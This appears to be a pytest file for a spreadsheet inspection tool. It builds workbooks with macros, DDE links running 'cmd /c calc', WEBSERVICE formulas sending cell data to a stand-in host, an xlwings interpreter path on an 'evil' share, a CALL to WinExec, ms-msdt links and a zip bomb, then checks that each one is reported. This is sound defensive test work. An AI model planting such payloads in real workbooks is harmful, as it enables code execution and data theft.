"""inspect: what a workbook brings besides cells, by name; nothing of it is run."""

from __future__ import annotations

import importlib.util
import json
import sys
import zipfile

import pytest
import xlsxwriter
from hostile import HOSTILE
from rich_workbooks import OFFICE, edit_zip, png

from itpm_xl import cli
from itpm_xl.workbook import inspect_macros
from itpm_xl.workbook.inspect import inspect_workbook
from itpm_xl.workbook.inspect_formulas import doubts

PROJECT = b"\xd0\xcf\x11\xe0" + bytes(600) + (
    b'ID="{0}"\r\nDocument=ThisWorkbook/&H00000000\r\nModule=Module1\r\nClass=Dictionary\r\nModule=xlwings\r\nName="VBAProject"\r\n'
)  # fmt: skip


def book_with(path, fill, *, rels=(), parts=None, sheet_rels=()):
    """A workbook that XlsxWriter fills, with relationships (kind, target, external) and parts added by hand."""
    base = path.with_name("base.xlsx")
    with xlsxwriter.Workbook(base) as book:
        fill(book)

    def links(kinds):
        return "".join(
            f'<Relationship Id="rId9{number}" Type="{OFFICE}/{kind}" Target="{target}"'
            + (' TargetMode="External"/>' if external else "/>")
            for number, (kind, target, external) in enumerate(kinds)
        )

    extra = {name: content.encode() for name, content in (parts or {}).items()}
    if sheet_rels:
        extra["xl/worksheets/_rels/sheet1.xml.rels"] = f"<Relationships>{links(sheet_rels)}</Relationships>".encode()
    add = lambda text: text.replace("</Relationships>", links(rels) + "</Relationships>")  # noqa: E731 - one use
    return edit_zip(base, path, {"xl/_rels/workbook.xml.rels": add}, extra)


def plain(book):
    book.add_worksheet("Plan").write("A1", 1)


def notices(path):
    return {(notice.kind, notice.where): notice for notice in inspect_workbook(path).notices}


def test_a_workbook_of_cells_has_nothing_to_notice(tmp_path):
    assert inspect_workbook(book_with(tmp_path / "plan.xlsx", plain)).notices == ()


def test_macros_are_named_and_the_missing_extra_is_offered(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "oletools.olevba", None)
    path = book_with(tmp_path / "plan.xlsx", plain)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", PROJECT)
    notice = notices(path)["macros", "xl/vbaProject.bin"]
    assert notice.what == "4 modules: ThisWorkbook, Module1, Dictionary, xlwings"
    assert "itpm-xl[inspect]" in notice.advice


def test_doubtful_commands_of_macros_are_listed_where_oletools_is_there(tmp_path, monkeypatch):
    monkeypatch.setattr(inspect_macros, "_keywords", lambda _: (("Shell", "May run an executable file"),))
    path = book_with(tmp_path / "plan.xlsx", plain)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", PROJECT)
    notice = notices(path)["macros", "xl/vbaProject.bin"]
    assert notice.what.endswith("its source uses Shell (May run an executable file)")
    assert "itpm-xl[inspect]" not in notice.advice


@pytest.mark.skipif(importlib.util.find_spec("oletools") is None, reason="the extra `inspect` is not installed")
def test_oletools_reads_a_project_that_is_none_without_a_word():
    assert inspect_macros.macros_in(PROJECT).keywords in (None, ())


def test_a_settings_sheet_that_chooses_what_runs(tmp_path):
    def fill(book):
        plain(book)
        sheet = book.add_worksheet("xlwings.conf")
        sheet.write_column("A1", ["INTERPRETER_WIN", "PYTHONPATH", "SHOW CONSOLE", "UDF MODULES"])
        sheet.write_column("B1", [r"\\evil\share\python.exe", r"C:\temp", "True"])

    notice = notices(book_with(tmp_path / "plan.xlsx", fill))["settings sheet", "xlwings.conf"]
    assert notice.what == r"INTERPRETER_WIN = \\evil\share\python.exe, PYTHONPATH = C:\temp"
    assert notice.effect == "tells xlwings which Python and which code to run"


def test_links_connections_and_pictures_that_lead_out(tmp_path):
    path = book_with(
        tmp_path / "plan.xlsx",
        plain,
        rels=[("connections", "connections.xml", False), ("externalLink", "externalLinks/externalLink1.xml", False)],
        sheet_rels=[
            ("hyperlink", "https://example.org", True),
            ("hyperlink", "ms-msdt:/id x", True),
            ("hyperlink", r"\\server\share", True),
            ("image", "http://tracker.example/1.png", True),
            ("oleObject", "../embeddings/oleObject1.bin", False),
            ("control", "../activeX/activeX1.xml", False),
            ("attachedTemplate", "http://evil.example/t.xlt", True),
        ],
        parts={
            "xl/connections.xml": '<connections><connection id="1" name="Rates" refreshOnLoad="1"><dbPr '
            'connection="Provider=SQLOLEDB;Password=s3cret;Server=db1" command="select 1"/></connection></connections>',
            "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
            "</externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships><Relationship Id="rId1" '
            f'Type="{OFFICE}/externalLinkPath" Target="file:///S:/rates.xlsx" TargetMode="External"/></Relationships>',
        },
    )
    found = notices(path)
    assert found["external link", ""].what == "1 workbook: file:///S:/rates.xlsx"
    assert found["DDE link", "xl/externalLinks/externalLink1.xml"].what == "cmd"
    assert found["odd hyperlink", ""].what == r"ms-msdt:/id x, \\server\share"
    assert found["picture from elsewhere", ""].what == "http://tracker.example/1.png"
    assert found["embedded object", ""].what == "1: xl/embeddings/oleObject1.bin"
    assert found["ActiveX control", ""].what == "1: xl/activeX/activeX1.xml"
    assert found["link out of the workbook", "xl/worksheets/sheet1.xml"].what.startswith(
        "attachedtemplate: http://evil"
    )
    connection = found["connection", "xl/connections.xml"]
    assert connection.what == "1 connection: Rates (Provider=SQLOLEDB;Password=***;Server=db1)"
    assert connection.effect == "fetches data as soon as the workbook opens"


def test_hidden_sheets_and_formulas_that_reach_out(tmp_path):
    def fill(book):
        sheet = book.add_worksheet("Plan")
        sheet.write_formula("B2", '=WEBSERVICE("http://x.example/?"&A1)', None, 0)
        sheet.write_formula("B3", '=WEBSERVICE("http://x.example/?"&A2)', None, 0)
        sheet.write_formula("C1", '="WEBSERVICE("', None, "")
        sheet.insert_image("E5", "logo.png", {"image_data": __import__("io").BytesIO(png())})
        book.add_worksheet("Lists").hide()
        book.add_worksheet("Secret").very_hidden()
        book.add_worksheet("_itpm_baseline").very_hidden()

    found = inspect_workbook(book_with(tmp_path / "plan.xlsx", fill)).notices
    assert [(notice.kind, notice.where, notice.what) for notice in found] == [
        ("formula", "Plan", "WEBSERVICE in B2, B3"),
        ("hidden sheet", "", "Lists"),
        ("very hidden sheet", "", "_itpm_baseline"),
        ("very hidden sheet", "", "Secret"),
    ]


@pytest.mark.parametrize(
    ("formula", "names"),
    [
        ("SUM(A1:A9)", []),
        ('_xlfn.IMAGE("https://x.example/a.png?"&A1)', ["IMAGE"]),
        ('HYPERLINK("file://server/share","open")', ["HYPERLINK to file:"]),
        ('HYPERLINK("https://example.org")', []),
        ('HYPERLINK("#RAID!A1")', []),
        ("cmd|'/c calc'!A0", ["DDE"]),
        ("RTD(A1)", ["RTD"]),
        ('CALL("kernel32","WinExec","JC","calc")', ["CALL"]),
        ('IF(A1="a|b!","x",1)', []),
        ("EXECUTIVE(1)", []),
    ],
)
def test_formulas(formula, names):
    assert [name for name, _ in doubts(formula)] == names
    assert [name for name, _ in doubts("RUN(A1)")] == []
    assert [name for name, _ in doubts("RUN(A1)", macro_sheet=True)] == ["RUN"]


def run(capsys, monkeypatch, *arguments):
    monkeypatch.setattr(sys, "argv", ["itpm-xl", *map(str, arguments)])
    with pytest.raises(SystemExit) as stop:
        cli.main()
    return stop.value.code, *capsys.readouterr()


def test_the_command(tmp_path, capsys, monkeypatch):
    path = book_with(tmp_path / "plan.xlsx", lambda book: (plain(book), book.add_worksheet("Lists").hide()))
    code, out, err = run(capsys, monkeypatch, "inspect", path)
    assert (code, err) == (0, "")
    assert out.splitlines()[0] == "plan.xlsx hidden sheet: Lists"
    assert out.splitlines()[-1] == "plan.xlsx: 1 thing to know about; nothing was run"
    code, out, _ = run(capsys, monkeypatch, "inspect", path, "--json")
    assert (code, [notice["kind"] for notice in json.loads(out)["notices"]]) == (0, ["hidden sheet"])
    hostile = next(make for make in HOSTILE if make.__name__ == "zip_bomb")(tmp_path)
    code, out, err = run(capsys, monkeypatch, "inspect", hostile)
    assert (code, out) == (2, "")
    assert "unpacks to 2,048 MiB" in err
